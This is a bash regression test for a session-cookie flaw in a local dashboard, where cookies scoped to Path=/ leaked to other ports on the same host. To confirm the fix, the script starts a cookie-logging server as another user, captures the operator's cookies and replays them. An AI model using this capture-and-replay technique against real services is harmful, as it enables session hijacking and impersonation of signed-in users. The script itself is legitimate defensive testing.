#!/usr/bin/env bash
# Finding (the dashboard's session cookie, src/front/ui.c): browsers send
# a host's cookies to every port of it. The session cookie `capsule_ui`
# had Path=/: a page another local user serves on 127.0.0.1:OTHER, opened
# by the signed-in operator, received the session id and replayed it to
# the dashboard, reading every page and acting as the operator.
# Fixed: a signed-in session lives under a path of its own, /s/KEY (256
# random bits), its cookie has Path=/s/KEY, and a session id is accepted
# only under its own KEY. Here curl's cookie jar stands in for the
# browser (RFC 6265: host and path, not port): the operator signs in, then
# visits uid 65534's server on another port at /, /login and a few other
# paths; uid 65534 replays every cookie it got, and also the session id
# itself (leaked any other way), under the old and new names, to the
# dashboard's /, /approvals, /events and another /s/KEY.
# Exits 1 while a replay reads a page, 0 blocked, 77 cannot run.
. "$(dirname "$0")/ui_lib.sh"
py=/usr/bin/python3
[ -x "$py" ] || { echo "SKIP: no /usr/bin/python3"; exit 77; }
ui_start
jar=$work/jar
[ "$(sign_in "$jar" "$op")" = 303 ] || { echo "SKIP: cannot sign in"; exit 77; }
page=$(ui_base "$jar")
[ "$(curl -s -o /dev/null -w '%{http_code}' -b "$jar" "$page")" = 200 ] || { echo "SKIP: no page"; exit 77; }
# the other local service: records the Cookie headers it is sent
touch "$work/leaked" && chmod 666 "$work/leaked"
"${as_nobody[@]}" "$py" -c '
import http.server, sys
class H(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        with open(sys.argv[1], "a") as f:
            for c in self.headers.get_all("Cookie") or []:
                f.write(c + "\n")
        self.send_response(200); self.end_headers(); self.wfile.write(b"hello\n")
    def log_message(self, *a): pass
s = http.server.HTTPServer(("127.0.0.1", 0), H)
print(s.server_address[1], flush=True)
s.serve_forever()
' "$work/leaked" >"$work/other.port" 2>&1 &
other=$!
for _ in $(seq 1 100); do [ -s "$work/other.port" ] && break; sleep 0.1; done
oport=$(head -1 "$work/other.port")
case $oport in '' | *[!0-9]*) kill "$other"; echo "SKIP: the other service did not start"; exit 77 ;; esac
for p in / /login /approvals /s/ /events; do
  curl -s -o /dev/null -b "$jar" "http://127.0.0.1:$oport$p"
done
kill "$other"; wait "$other" 2>/dev/null
echo "the other service on port $oport was sent: $(tr '\n' ' ' <"$work/leaked")"
# what leaked, and the session id itself, replayed as uid 65534
sid=$(awk -F'\t' '$3 ~ /^\/s\// {print $7}' "$jar" | tail -1)
values=$(grep -o '=[0-9a-f]\{64\}' "$work/leaked" | cut -c2- | sort -u)
port=${U##*:}
other_key=$(head -c 32 /dev/urandom | od -An -tx1 | tr -d ' \n')
rc=0
for v in $values $sid; do
  for name in capsule_ui "capsule_ui_$port"; do
    for p in / /approvals /events "/s/$other_key/" "/s/$other_key/approvals"; do
      code=$("${as_nobody[@]}" curl -s -o /dev/null -w '%{http_code}' --max-time 10 \
        -H "Cookie: $name=$v" "$U$p")
      if [ "$code" = 200 ]; then
        echo "VULNERABLE: $name=${v:0:8}... replayed to $p reads the page"
        rc=1
      fi
    done
  done
done
# the operator's own session still works, under its path
[ "$(curl -s -o /dev/null -w '%{http_code}' -b "$jar" "${page}approvals")" = 200 ] ||
  { echo "BROKEN: the operator's session no longer reads its pages"; rc=1; }
[ "$rc" = 0 ] && echo blocked
exit $rc
